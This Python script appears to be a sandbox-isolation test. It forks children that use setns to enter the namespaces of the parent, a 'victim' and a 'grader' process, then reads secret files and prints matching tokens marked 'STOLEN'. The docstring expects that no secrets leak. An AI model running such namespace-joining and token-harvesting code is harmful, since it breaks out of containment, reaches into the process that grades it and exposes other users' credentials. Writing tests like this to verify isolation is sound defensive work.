"""Joins the namespaces of other processes, and looks around there.

Afterwards: no private file is in anything that the notebook printed.
"""

import ctypes
import json
import os
import re
from pathlib import Path

ME = "hostile-namespaces_joined"
world = json.loads(Path("world.json").read_text())
libc = ctypes.CDLL(None, use_errno=True)


def join(pid):
    """Enter every namespace of the process that can be entered, its folders last."""
    for kind in ("user", "ipc", "uts", "net", "mnt"):
        namespace = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
        done = libc.setns(namespace, 0)
        yield f"{'DONE' if done == 0 else 'DENIED'} joined {kind} of {pid}: {os.strerror(ctypes.get_errno())}"
    for name in ("home", "account"):
        for token in re.findall(world["token"], Path(world["secrets"][name]).read_text()):
            yield f"STOLEN {name}: {token}"


for pid in (os.getppid(), world["victim"]["pid"], world["grader"]["pid"]):
    reading, writing = os.pipe()
    if os.fork() == 0:
        try:
            for line in join(pid):
                os.write(writing, f"{line}\n".encode())
        except OSError as error:
            os.write(writing, f"DENIED the namespaces of {pid}: {error}\n".encode())
        os._exit(0)
    os.close(writing)
    with open(reading) as said:
        print(said.read())
    os.wait()
